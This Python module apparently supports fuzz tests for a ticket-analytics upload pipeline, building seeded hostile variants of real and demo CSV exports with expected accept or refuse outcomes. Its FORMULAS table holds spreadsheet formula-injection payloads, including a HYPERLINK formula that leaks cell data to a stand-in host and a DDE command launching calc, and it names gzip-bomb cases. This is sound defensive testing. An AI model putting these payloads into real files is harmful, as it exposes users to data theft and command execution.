"""Seeded hostile variants of real and demo exports (issue #14), for tests/test_fuzz.py and bench/fuzz.py.

Seed files are small excerpts (at most SEED_ROWS records) of each real export in
shared/data/real and of the demo CSVs. `plan(count, seed)` lists cases (kind x seed file x a
per-case seed) without reading any file, so a test can be parametrised at collection time;
`build(case, seeds)` makes the bytes. The same (count, seed) always gives the same files.

Each kind says what the upload must do with its file:
- ACCEPT: loaded (exit 0);
- REFUSE: refused, one line naming the file;
- SAME: loaded, and the store ends up exactly as after the clean excerpt of the same seed file
  (same tickets, same history, same counts): encodings, delimiters, line ends, column order
  and container formats must not change what is loaded;
- EITHER: loaded or refused, whichever (the generic checks still apply).
"""

from __future__ import annotations

import csv
import gzip
import io
import random
from collections.abc import Callable
from dataclasses import dataclass, field, replace
from pathlib import Path

SEED_ROWS = 300
ACCEPT, REFUSE, SAME, EITHER = "accept", "refuse", "same", "either"

FORMULAS = {
    "hyperlink-plus": '=+HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "hyperlink-minus": '=-HYPERLINK("http://evil.example/","Click")',
    "tab-eq": "\t=1+1",
    "at-ref": "@A1",
    "plus": "+1+1",
    "minus": "-2+3",
    "dde": "=cmd|' /C calc'!A0",
}
FAR_YEARS = ("0001", "1900", "2262", "9999")


@dataclass(frozen=True)
class SeedFile:
    name: str
    header: tuple[str, ...]
    rows: tuple[tuple[str, ...], ...]
    ids: tuple[str, ...]  # the columns that make the external id
    times: tuple[str, ...]  # timestamp columns; the first one is required on every row
    texts: tuple[str, ...]  # text columns that reach a ticket field
    real: bool = True

    def col(self, name: str) -> int:
        return self.header.index(name)


# name -> (file under the real folder, records to take (first, last), ids, times, texts)
REAL = {
    "servicenow": ("servicenow-incident-event-log/incident_event_log.csv.gz", ("number",),
                   ("sys_updated_at", "opened_at", "resolved_at", "closed_at"), ("category", "closed_code")),
    "volvo": ("bpi2013-volvo-incidents/VINST_incidents_ibm.csv.gz", ("SR Number",),
              ("Change Date+Time",), ("Product", "Owner First Name")),
    "helpdesk": ("helpdesk-italian/helpdesk_finale.csv.gz", ("Case ID",), ("Complete Timestamp",),
                 ("product", "Resource")),
    "jira": ("jira-public-dataset-subset/jira_issues_timeestimate_subset.csv.gz", ("repo_name", "id"),
             ("created", "resolutiondate"), ("project_name", "assignee_id")),
    "statuspage": ("github-status-incidents/githubstatus_incidents.csv.gz", ("id",),
                   ("created_at", "started_at", "resolved_at"), ("name", "components")),
    "statuspage-updates": ("github-status-incidents/githubstatus_incident_updates.csv.gz", ("incident_id",),
                           ("display_at",), ("status",)),
    "rabobank": ("bpi2014-rabobank-partial/BPIC14_incident_case_attributes_sample.csv.gz", ("incident_id",),
                 ("open_time", "resolved_time", "close_time"), ("closure_code", "ci_name_aff")),
}
DEMO = {
    "demo-tickets": (("external_id",), ("opened_at", "resolved_at", "closed_at"), ("title", "service")),
    "demo-history": (("external_id",), ("event_time",), ("status", "team")),
}
SEED_NAMES = tuple(REAL) + tuple(DEMO)
# The store every case starts from holds the demo and these statuspage incidents, so the
# updates excerpt (their status history) has tickets to attach to; the incidents excerpt is
# the next SEED_ROWS incidents, new to the store.
PRELOAD = "statuspage-preload"


def _records(path: Path, skip: int, take: int) -> tuple[list[str], list[list[str]]]:
    opener = gzip.open if path.suffix == ".gz" else open
    with opener(path, "rt", encoding="utf-8-sig", newline="") as fh:
        reader = csv.reader(fh)
        header = next(reader)
        rows = []
        for i, row in enumerate(reader):
            if i >= skip + take:
                break
            if i >= skip:
                rows.append(row)
    return header, rows


def load_seeds(real_dir: Path | None, demo_dir: Path) -> dict[str, SeedFile]:
    """The seed excerpts: the demo's always, the real exports' when `real_dir` is given."""
    from analytics.demo import generator

    seeds: dict[str, SeedFile] = {}
    tickets, history = generator.write_csvs(demo_dir, 250, seed=43)
    for name, path in (("demo-tickets", tickets), ("demo-history", history)):
        header, rows = _records(path, 0, SEED_ROWS)
        ids, times, texts = DEMO[name]
        seeds[name] = SeedFile(name, tuple(header), tuple(map(tuple, rows)), ids, times, texts, real=False)
    if real_dir is None:
        return seeds
    for name, (rel, ids, times, texts) in REAL.items():
        skip = SEED_ROWS if name == "statuspage" else 0
        header, rows = _records(real_dir / rel, skip, SEED_ROWS)
        seeds[name] = SeedFile(name, tuple(header), tuple(map(tuple, rows)), ids, times, texts)
    header, rows = _records(real_dir / REAL["statuspage"][0], 0, SEED_ROWS)
    seeds[PRELOAD] = replace(seeds["statuspage"], name=PRELOAD, rows=tuple(map(tuple, rows)))
    known = {r[0] for r in rows}
    header, updates = _records(real_dir / REAL["statuspage-updates"][0], 0, 10 * SEED_ROWS)
    updates = [r for r in updates if r[0] in known][:SEED_ROWS]
    seeds["statuspage-updates"] = replace(seeds["statuspage-updates"], rows=tuple(map(tuple, updates)))
    return seeds


def build_template(path: Path, seeds: dict[str, SeedFile], demo_tickets: int = 300) -> None:
    """The store each case starts from (closed when this returns, so it can be copied)."""
    from analytics.demo.loader import load_demo
    from analytics.ingest.pipeline import ingest_file
    from analytics.store import db
    from analytics.store.auth import local_operator

    con = db.connect(path)
    try:
        load_demo(con, demo_tickets, seed=42, actor=local_operator("demo"))
        if PRELOAD in seeds:
            s = seeds[PRELOAD]
            ingest_file(con, data=to_csv(s.header, s.rows).encode(), name="statuspage-preload.csv",
                        uploaded_by=local_operator("local"))
    finally:
        con.close()


# --- cases --------------------------------------------------------------------------------------

@dataclass(frozen=True)
class Case:
    index: int
    kind: str
    seed_name: str
    case_seed: int

    @property
    def name(self) -> str:
        return f"{self.index:04d}-{self.kind}-{self.seed_name}"


@dataclass
class Variant:
    case: Case
    file_name: str
    data: bytes
    expect: str
    env: dict[str, str] = field(default_factory=dict)
    min_rejected: int = 0  # on acceptance, at least this many rows must be rejected
    stored: str = ""  # on acceptance, text the store must hold as it was uploaded (not neutralised)
    note: str = ""  # what was done, for messages

    @property
    def name(self) -> str:
        return self.case.name


Mutator = Callable[[SeedFile, random.Random], tuple]
KINDS: dict[str, tuple[str, Mutator]] = {}


def kind(name: str, expect: str):
    def register(fn: Mutator) -> Mutator:
        KINDS[name] = (expect, fn)
        return fn
    return register


# Kinds that take seconds each (wide or long files, expansion): every other round only.
HEAVY = frozenset({"columns-3000", "header-over-64kb", "gzip-bomb", "gzip-bomb-zeros", "xlsx-many-rows",
                   "long-cell-1mb", "tbd-at-row-1900", "na-at-row-1900"})


def plan(count: int, seed: int, seed_names: tuple[str, ...] = SEED_NAMES) -> list[Case]:
    """`count` cases: every kind in turn (the HEAVY ones every other round), each on a seed file
    chosen by the seeded generator."""
    rng = random.Random(seed)
    cases: list[Case] = []
    rounds = 0
    while len(cases) < count:
        for k in KINDS:
            if len(cases) < count and (k not in HEAVY or rounds % 2 == 0):
                cases.append(Case(len(cases), k, rng.choice(seed_names), rng.getrandbits(32)))
        rounds += 1
    return cases


def matrix(seed: int, seed_names: tuple[str, ...] = SEED_NAMES) -> list[Case]:
    """Every kind on every seed file once."""
    rng = random.Random(seed)
    pairs = [(k, s) for k in KINDS for s in seed_names]
    return [Case(i, k, s, rng.getrandbits(32)) for i, (k, s) in enumerate(pairs)]


def build(case: Case, seeds: dict[str, SeedFile]) -> Variant:
    expect, fn = KINDS[case.kind]
    out = fn(seeds[case.seed_name], random.Random(case.case_seed))
    ext, data = out[0], out[1]
    extra = out[2] if len(out) > 2 else {}
    return Variant(case, case.name + ext, data, extra.pop("expect", expect), **extra)


# --- helpers ------------------------------------------------------------------------------------

def to_csv(header, rows, delimiter: str = ",", line_end: str = "\n", quote_all: bool = False) -> str:
    buf = io.StringIO()
    w = csv.writer(buf, delimiter=delimiter, lineterminator=line_end,
                   quoting=csv.QUOTE_ALL if quote_all else csv.QUOTE_MINIMAL)
    w.writerow(header)
    w.writerows(rows)
    return buf.getvalue()


def cell(value: str, delimiter: str = ",", quote_all: bool = False) -> str:
    """One CSV field as csv.writer writes it in a record (minimal quoting: empty stays empty)."""
    if value == "" and not quote_all:
        return ""
    buf = io.StringIO()
    csv.writer(buf, delimiter=delimiter, lineterminator="",
               quoting=csv.QUOTE_ALL if quote_all else csv.QUOTE_MINIMAL).writerow([value])
    return buf.getvalue()


def raw_row(row, col: int, raw_value: str, delimiter: str = ",") -> str:
    """A record with one field written raw (unquoted, unescaped), the others properly."""
    return delimiter.join(raw_value if i == col else cell(v, delimiter) for i, v in enumerate(row))


def with_raw(seed: SeedFile, row: int, col: int, raw_value: str) -> str:
    head = to_csv(seed.header, seed.rows[:row])
    tail = to_csv(seed.header, seed.rows[row + 1:]).split("\n", 1)[1]
    return head + raw_row(seed.rows[row], col, raw_value) + "\n" + tail


def set_cells(seed: SeedFile, cells: dict[tuple[int, str], str]) -> list[list[str]]:
    """Rows with some cells replaced: {(row index, column name): value}."""
    rows = [list(r) for r in seed.rows]
    for (r, col), value in cells.items():
        rows[r][seed.col(col)] = value
    return rows


def grow(seed: SeedFile, n: int) -> list[list[str]]:
    """`n` rows: the excerpt repeated, each copy's ids made new with a "-k" suffix."""
    rows = []
    last_id = seed.col(seed.ids[-1])
    while len(rows) < n:
        k = len(rows) // len(seed.rows)
        for r in seed.rows[: n - len(rows)]:
            r = list(r)
            if k and r[last_id]:
                r[last_id] = f"{r[last_id]}-{k}"
            rows.append(r)
    return rows


def csv_bytes(seed: SeedFile, rows=None, **kw) -> bytes:
    return to_csv(seed.header, seed.rows if rows is None else rows, **kw).encode("utf-8")


def text_cell(seed: SeedFile, rng: random.Random) -> tuple[int, str]:
    return rng.randrange(len(seed.rows)), rng.choice(seed.texts)


def gzip_member(data: bytes, level: int = 9) -> bytes:
    return gzip.compress(data, compresslevel=level, mtime=0)


def json_records(seed: SeedFile, rows=None) -> list[dict[str, str]]:
    return [dict(zip(seed.header, r)) for r in (seed.rows if rows is None else rows)]


# The kinds register themselves, in a fixed order (plan() depends on it).
from tests import fuzz_kinds  # noqa: E402,F401
